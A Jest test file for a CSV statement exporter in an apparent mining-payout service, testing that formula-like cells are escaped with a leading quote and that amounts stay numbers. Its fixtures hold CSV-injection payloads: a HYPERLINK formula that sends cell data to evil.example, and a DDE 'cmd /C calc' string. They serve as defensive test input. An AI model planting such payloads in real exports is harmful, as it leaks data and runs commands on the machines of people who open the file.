/**
 * The statement CSV as a spreadsheet reads it: text that starts like a formula (= + - @, tab) is shown as text
 * (a leading single quote), amounts stay numbers, and quoting survives commas, quotes and line breaks.
 */
import { parse } from 'csv-parse/sync';
import { createContract, createInvestor, requestPayout } from '../src/api';
import { runDay, addDays, utcToday } from '../src/run';
import { statementCsv, toCsv } from '../src/statement';
import { ADDRESSES, fixedHashrate, recordPayout } from './fixtures';
import { createTestDatabase, type TestDatabase } from './pg';

/** Cells as a spreadsheet's CSV import sees them (RFC 4180), header line first. */
function cells(csv: string): string[][] {
  return parse(csv, { relax_column_count: false }) as string[][];
}

/** What a spreadsheet does with a cell: a leading = + - @ (or tab/CR before one) starts a formula; a leading ' is text. */
function readsAsFormula(cell: string): boolean {
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
}

describe('CSV writer', () => {
  const hostile = {
    name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")',
    address: '-1+1',
    comment: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  };

  test('a name, address or comment that starts like a formula is text in the spreadsheet, its characters kept', () => {
    const rows = [
      { who: hostile.name, address: hostile.address, comment: hostile.comment, amount_sat: -100_000 },
      { who: '+44 20 7946 0000', address: '\t=1+2', comment: 'line one\nline two, "quoted"', amount_sat: 250_000 },
    ];
    const [header, ...lines] = cells(toCsv(['who', 'address', 'comment', 'amount_sat'] as const, rows));
    expect(header).toEqual(['who', 'address', 'comment', 'amount_sat']);
    expect(lines).toHaveLength(rows.length);
    lines.forEach((line, i) => {
      const row = rows[i]!;
      for (const [column, text] of [[0, row.who], [1, row.address], [2, row.comment]] as const) {
        expect(readsAsFormula(line[column]!)).toBe(false);
        // The quote is the only change: the reader still sees the whole text.
        expect(line[column]).toBe(readsAsFormula(text) ? `'${text}` : text);
      }
    });
    // Escaping happened where it had to (the test would be empty otherwise).
    expect(lines[0]![0]!.startsWith("'=HYPERLINK(")).toBe(true);
    expect(lines[0]![1]).toBe("'-1+1");
    expect(lines[1]![2]).toBe(rows[1]!.comment);
  });

  test('amounts stay numbers, negative ones too; empty values are empty cells', () => {
    const [, ...lines] = cells(toCsv(['amount_sat', 'note'] as const, [{ amount_sat: -100_000, note: null }, { amount_sat: 0 }, { amount_sat: 2_099_999_997_690_000 }]));
    expect(lines.map((l) => Number(l[0]))).toEqual([-100_000, 0, 2_099_999_997_690_000]);
    expect(lines.map((l) => l[1])).toEqual(['', '', '']);
  });

  test('no rows: the header line alone', () => {
    expect(cells(toCsv(['date', 'net_sat'] as const, []))).toEqual([['date', 'net_sat']]);
  });
});

describe("an investor's statement", () => {
  let db: TestDatabase;
  const day = addDays(utcToday(), -2);
  beforeAll(async () => {
    db = await createTestDatabase('statement');
  });
  afterAll(async () => {
    await db.drop();
  });

  test('a contract id that reads as a number or formula stays text; the payout is a negative number and the running sum adds up', async () => {
    // Contract ids allow a leading "-": "-1" would otherwise become the number -1 in a spreadsheet.
    await createInvestor(db.pool, { id: 'mallory', name: 'Mallory' });
    await createContract(db.pool, { id: '-1', investorId: 'mallory', hashrateThs: '10', startDay: day, endDay: day });
    await recordPayout(db.pool, day, '0.00100000');
    expect(await runDay(db.pool, fixedHashrate('10'), day)).toMatchObject({ status: 'done', contracts: 1 });
    await requestPayout(db.pool, { investorId: 'mallory', amountSat: 40_000, address: ADDRESSES.p2wpkh }, { minimumSat: 10_000 });

    const [header, ...lines] = cells(await statementCsv(db.pool, 'mallory', day, utcToday()));
    const rows = lines.map((l) => Object.fromEntries(header!.map((c, i) => [c, l[i]!])));
    expect(rows.map((r) => r.type)).toEqual(['credit', 'payout_request']);
    const [credit, payout] = rows as [Record<string, string>, Record<string, string>];
    expect(credit.contract).toBe("'-1");
    for (const row of rows) for (const value of Object.values(row)) expect(readsAsFormula(value)).toBe(false);
    expect(Number(credit.net_sat)).toBeGreaterThan(40_000);
    expect(Number(payout.net_sat)).toBe(-40_000);
    expect(Number(payout.period_net_sat)).toBe(Number(credit.net_sat) - 40_000);
  });
});
